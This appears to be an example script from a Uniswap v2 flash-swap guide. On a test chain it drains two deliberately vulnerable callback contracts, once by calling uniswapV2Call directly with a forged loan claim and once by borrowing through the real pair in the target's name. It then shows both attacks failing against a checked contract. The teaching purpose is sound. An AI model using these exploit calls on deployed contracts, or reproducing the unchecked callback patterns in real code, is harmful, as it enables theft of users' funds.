import assert from 'node:assert/strict';
import {encodeAbiParameters, parseAbi, parseAbiParameters, parseUnits, type Address} from 'viem';
import {printFailure} from '../../sdk/support/printFailure';
import {client, clientOf, confirm, deadlineIn, run, tokenOf} from '../../support/chain';
import {deploy} from '../../support/contract';
import {inUsdc, pair} from '../reference/support/contracts';
import {balance, transfer, usdc as usdcToken, weth} from '../support/tokens';
import {deploySwapper} from './support/flash';

const file = 'examples/v2/guides/UncheckedBorrowers.sol';
const calleeAbi = parseAbi([
  'function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes data)',
]);
const lenderAbi = parseAbi([
  'function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes data)',
]);
const stakeUsdc = parseUnits('1000', 6);
const attacker = clientOf(9);

const usdc = usdcToken.address;
const usdcOf = (owner: Address) => balance(usdcToken, owner);

run(async () => {
  const trustsAnybody = await deploy({file, contract: 'TrustsAnybody'});
  const trustsThePair = await deploy({file, contract: 'TrustsThePair'}, [pair.address]);
  const checked = await deploySwapper();
  for (const target of [trustsAnybody, trustsThePair, checked.address]) {
    await transfer(usdcToken, target, stakeUsdc);
  }
  const thief = attacker.account.address;

  // #region direct
  // No pair takes part: the attacker says that a loan is due.
  const claim = encodeAbiParameters(parseAbiParameters('address, uint256'), [usdc, stakeUsdc]);
  const direct = {
    abi: calleeAbi,
    functionName: 'uniswapV2Call',
    args: [thief, 0n, 0n, claim],
  } as const;
  await confirm(await attacker.writeContract({...direct, address: trustsAnybody}));
  // #endregion direct
  console.log(`no check        ${inUsdc(stakeUsdc)} → ${inUsdc(await usdcOf(trustsAnybody))}`);

  // #region through-pair
  // The genuine pair lends 1 USDC to the target, which the attacker names, with the attacker's data.
  const lent = parseUnits('1', 6);
  const owed = (lent * 1_000n + 996n) / 997n;
  const forged = encodeAbiParameters(parseAbiParameters('address, uint256, address'), [
    usdc,
    owed,
    thief,
  ]);
  const borrow = {address: pair.address, abi: lenderAbi, functionName: 'swap'} as const;
  await confirm(await attacker.writeContract({...borrow, args: [lent, 0n, trustsThePair, forged]}));
  // #endregion through-pair
  console.log(`one check       ${inUsdc(stakeUsdc)} → ${inUsdc(await usdcOf(trustsThePair))}`);

  // #region checked
  const order = {
    tokenBorrowed: usdc,
    tokenOther: weth.address,
    amountBorrowed: lent,
    path: [usdc, tokenOf('DAI').address],
    profitMin: 1n,
    deadline: await deadlineIn(600n),
  } as const;
  const data = encodeAbiParameters(
    parseAbiParameters([
      'struct Order { address tokenBorrowed; address tokenOther; uint256 amountBorrowed; address[] path; uint256 profitMin; uint256 deadline; }',
      'Order order, address payee',
    ]),
    [order, thief],
  );
  const asAttacker = {
    ...checked,
    account: attacker.account,
    functionName: 'uniswapV2Call',
  } as const;
  await printFailure('calls it directly', () =>
    client.simulateContract({...asAttacker, args: [checked.address, lent, 0n, data]}),
  );
  await printFailure('borrows in its name', () =>
    attacker.simulateContract({...borrow, args: [lent, 0n, checked.address, data]}),
  );
  // #endregion checked
  const kept = await usdcOf(checked.address);
  assert.equal(kept, stakeUsdc);
  console.log(`both checks     ${inUsdc(stakeUsdc)} → ${inUsdc(kept)}`);
});
